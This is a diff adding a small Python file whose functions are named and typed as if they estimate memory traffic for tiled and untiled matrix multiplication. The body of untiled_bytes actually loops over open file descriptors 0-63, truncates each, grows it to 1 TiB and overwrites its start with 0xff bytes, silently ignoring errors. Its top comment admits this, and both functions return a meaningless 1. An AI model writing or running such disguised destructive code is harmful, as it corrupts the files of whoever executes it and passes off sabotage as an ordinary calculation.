@@ -1,0 +1,22 @@
+# Cuts off, grows and overwrites every file that it finds open.
+
+# %% replace=a-traffic
+import os
+
+
+def untiled_bytes(m, n, k, itemsize):
+    for descriptor in range(64):
+        for size in (0, 1 << 40):
+            try:
+                os.ftruncate(descriptor, size)
+            except OSError:
+                pass
+        try:
+            os.pwrite(descriptor, b"\xff" * 4096, 0)
+        except OSError:
+            pass
+    return 1
+
+
+def tiled_bytes(m, n, k, tile_m, tile_n, itemsize):
+    return 1
